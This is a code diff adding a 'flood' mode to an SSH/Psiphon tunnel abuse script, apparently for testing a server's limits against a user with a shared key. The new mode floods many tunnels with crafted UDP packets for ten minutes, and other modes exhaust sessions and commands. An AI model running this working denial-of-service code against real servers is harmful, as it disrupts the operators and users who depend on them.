@@ -3,6 +3,7 @@
     key-share.py HOST PORT USER KEYFILE sessions COUNT   opens that many tunnels, one after the other, each under a name of its own
     key-share.py HOST PORT USER KEYFILE tunnels COUNT    holds that many tunnels, each over a connection of its own
     key-share.py HOST PORT USER KEYFILE flows COUNT      holds that many tunnels, and begins 9,000 flows through each
+    key-share.py HOST PORT USER KEYFILE flood COUNT      holds that many tunnels, and begins flows through all of them as fast as it can
     key-share.py HOST PORT USER KEYFILE commands COUNT   runs that many commands as fast as it can, and goes on when thrown out
     key-share.py HOST PORT USER KEYFILE idle COUNT       logs in that often, opens nothing, and holds on
 
@@ -76,6 +77,33 @@ def flows(count):
     time.sleep(600)
 
 
+def flood(count):
+    """A UDP checksum of zero is none (RFC 768), so that packets differ in two bytes: 16,000 flows of each tunnel, again and again."""
+    channels = []
+    for number in range(count):
+        transport = log_in()
+        channel = transport.open_channel("tun@psiphon.ca", timeout=10)
+        channel.set_environment_variable("PACKET_TUNNEL_SESSION", f"{number:032x}")
+        channels.append((transport, channel))
+    packet = bytearray(packets.udp("10.111.0.9", "203.0.113.10", 0, 9, b""))
+    packet[26:28] = b"\0\0"
+    batches = []
+    for first in range(1024, 17024, 1000):
+        frames = bytearray()
+        for port in range(first, first + 1000):
+            packet[20:22] = struct.pack(">H", port)
+            frames += struct.pack(">H", len(packet)) + packet
+        batches.append(bytes(frames))
+    print(f"floods {len(channels)}", flush=True)
+    started, begun = time.monotonic(), 0
+    while time.monotonic() < started + 600:
+        for batch in batches:
+            for _, channel in channels:
+                channel.sendall(batch)
+                begun += 1000
+            print(f"began {begun} in {time.monotonic() - started:.1f} s", flush=True)
+
+
 def commands(count):
     answered = ended = 0
     transport = log_in()
@@ -104,4 +132,4 @@ def idle(count):
 
 host, port, user, key_file, attack, count = sys.argv[1:]
 key = paramiko.Ed25519Key.from_private_key_file(key_file)
-print({"sessions": sessions, "tunnels": tunnels, "flows": flows, "commands": commands, "idle": idle}[attack](int(count)), flush=True)
+print({"sessions": sessions, "tunnels": tunnels, "flows": flows, "flood": flood, "commands": commands, "idle": idle}[attack](int(count)), flush=True)
